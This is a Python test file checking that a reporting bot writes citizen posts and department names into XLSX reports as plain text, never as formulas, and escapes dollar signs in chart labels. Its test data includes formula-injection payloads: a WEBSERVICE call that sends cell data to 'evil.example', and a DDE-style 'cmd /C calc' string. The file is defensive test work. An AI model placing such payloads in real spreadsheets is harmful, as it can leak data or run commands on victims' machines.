"""Citizen text and department names in the /report files stay data (issue 13, section 1): no string cell
of the XLSX is a formula, and no chart label is matplotlib math text."""

from __future__ import annotations

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from matplotlib import cbook

from bot.domain.orgs import Scope
from bot.runtime.clock import FakeClock
from bot.services.periods import parse_period
from bot.services.report_files import append_row, chart_figure, chart_label
from bot.services.reports import ReportService
from deadlines.calendar import WorkCalendar
from storage.codec import ts
from storage.db import Database
from tests.conftest import MSK, msk
from tests.integration.test_kpi import NOW, ROADS, ZHKH, Data

# What a spreadsheet reads as a formula when a text cell starts with it (= + - @, tab, carriage return).
FORMULAS = [
    '=HYPERLINK("http://x","y")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
# XML reads a bare carriage return in text as a line feed: the cell holds the text, its first character a
# line break either way.
READ_BACK = [f.replace("\r", "\n") for f in FORMULAS]


async def _departments(db: Database, names: tuple[str, str]) -> None:
    async with db.transaction() as conn:
        for dept_id, name, chat in ((ZHKH, names[0], -1001), (ROADS, names[1], -1002)):
            await conn.execute("INSERT INTO departments (id, name, chat_id, created_at) VALUES (?,?,?,?)",
                               (dept_id, name, chat, ts(NOW)))


async def _files_with(db: Database, calendar: WorkCalendar, *, texts_: list[str], names: tuple[str, str],
                      link: str | None = None) -> bytes:
    d = Data(db)
    await _departments(db, names)
    for i, text in enumerate(texts_):
        case_id = await d.case(status="in_work", detected=msk(2026, 12, 1, 9, i), text=text,
                               departments=(ZHKH if i % 2 else ROADS,),
                               blamed=(("draft", msk(2026, 12, 1, 11), None, None, ZHKH if i % 2 else ROADS,
                                        [f"department:{ZHKH if i % 2 else ROADS}"], False),))
        async with db.transaction() as conn:
            await conn.execute("UPDATE cases SET link = ? WHERE id = ?", (link, case_id))
    service = ReportService(db, calendar, FakeClock(NOW), MSK)
    return (await service.files(parse_period("2026-12", NOW, MSK), scope=Scope.all())).xlsx


async def test_xlsx_writes_formula_like_citizen_text_as_text(db: Database, calendar: WorkCalendar) -> None:
    """A post text `=HYPERLINK(...)`, `=WEBSERVICE(...)`, `+1`, `@SUM(...)`, `-2+3` or tab/CR-leading
    text comes back from the file as the same string in a text cell with the quote prefix, never a
    formula; so do department names and a link that start like one."""
    from openpyxl import load_workbook

    xlsx = await _files_with(db, calendar, texts_=FORMULAS, names=("=1+1", "@Отдел"), link="=HYPERLINK(1)")
    wb = load_workbook(io.BytesIO(xlsx))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the report"
    by_value: dict[str, list] = {}
    for c in cells:
        if isinstance(c.value, str):
            by_value.setdefault(c.value, []).append(c)
    for value in [*READ_BACK, "=1+1", "@Отдел", "=HYPERLINK(1)"]:
        found = by_value.get(value)
        assert found, f"{value!r} is not in the workbook as written"
        assert all(c.data_type == "s" and c.quotePrefix for c in found), value
    posts = [row[10] for row in wb["Сообщения"].iter_rows(min_row=2, values_only=True)]
    assert sorted(posts) == sorted(READ_BACK)
    assert {r[0] for r in wb["Отделы"].iter_rows(min_row=2, values_only=True)} >= {"=1+1", "@Отдел"}
    owners = {r[2] for r in wb["Сроки"].iter_rows(min_row=2, values_only=True)}
    assert owners >= {"=1+1", "@Отдел"}


async def test_xlsx_keeps_ordinary_text_plain_and_survives_control_characters(
        db: Database, calendar: WorkCalendar) -> None:
    """Text that cannot be a formula is written untouched (no quote prefix), and a control character that
    XML cannot hold (openpyxl would refuse the whole workbook) becomes U+FFFD instead of breaking /report."""
    from openpyxl import load_workbook

    xlsx = await _files_with(db, calendar, texts_=["Яма на Ленина = беда", "a\x00b\x1bc", "5-3"],
                             names=("Отдел ЖКХ", "Дорожный отдел"))
    wb = load_workbook(io.BytesIO(xlsx))
    posts = {row[10].value: row for row in wb["Сообщения"].iter_rows(min_row=2)}
    assert set(posts) == {"Яма на Ленина = беда", "a\ufffdb\ufffdc", "5-3"}
    assert not any(row[10].quotePrefix for row in posts.values())


@pytest.mark.parametrize("name", ["$x$", r"$\frac$", "a$b$c$d", r"$\$", "Отдел $$", r"\$x$"])
async def test_chart_draws_department_names_with_dollars_literally(db: Database, calendar: WorkCalendar,
                                                                     name: str) -> None:
    """A department called `$\\frac$` made matplotlib parse math text and /report fail for everyone: the
    chart renders, and the label is not math text and shows the name as written."""
    from PIL import Image

    d = Data(db)
    await _departments(db, (name, name + " 2"))
    for dept in (ZHKH, ROADS):
        await d.case(status="closed", detected=msk(2026, 12, 1, 9, 0), departments=(dept,), drafts=("approved",),
                     deadlines=(("answer", msk(2026, 12, 1, 12), msk(2026, 12, 1, 11), "met"),),
                     publications=(("answer", msk(2026, 12, 1, 11)),))
    service = ReportService(db, calendar, FakeClock(NOW), MSK)
    period = parse_period("2026-12", NOW, MSK)
    files = await service.files(period, scope=Scope.all())
    assert Image.open(io.BytesIO(files.png)).format == "PNG"

    fig = chart_figure(await service.build(period, scope=Scope.all()))
    fig.canvas.draw()
    ticks = fig.axes[1].get_yticklabels()
    labels = [t.get_text() for t in ticks]
    assert labels == [chart_label(name), chart_label(name + " 2")]
    for tick, shown in zip(ticks, (name, name + " 2"), strict=True):
        assert not cbook.is_math_text(tick.get_text())
        assert tick._preprocess_math(tick.get_text()) == (shown, False)     # drawn as written, not as math


def test_chart_label_escapes_every_dollar() -> None:
    assert chart_label("$a$ и $b$") == r"\$a\$ и \$b\$"
    assert chart_label("без знаков") == "без знаков"


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_every_string_cell_reads_back_as_the_same_text_never_a_formula(value: str) -> None:
    """Any text through the row writer every sheet uses comes back as text: equal to what was written
    (less the control characters XML cannot hold, and a bare CR as a line feed), never a formula."""
    from openpyxl import Workbook, load_workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    append_row(ws, [value, "=" + value, "+" + value])
    buf = io.BytesIO()
    wb.save(buf)
    cells = next(load_workbook(io.BytesIO(buf.getvalue())).worksheets[0].iter_rows())
    for cell, written in zip(cells, [value, "=" + value, "+" + value], strict=True):
        expected = ILLEGAL_CHARACTERS_RE.sub("\ufffd", written).replace("\r\n", "\n").replace("\r", "\n")
        if expected:
            assert cell.data_type == "s" and cell.value == expected
        assert cell.data_type != "f"


@given(st.text(max_size=40))
def test_no_chart_label_is_math_text(name: str) -> None:
    label = chart_label(name)
    assert not cbook.is_math_text(label)
    assert label.replace(r"\$", "$") == name
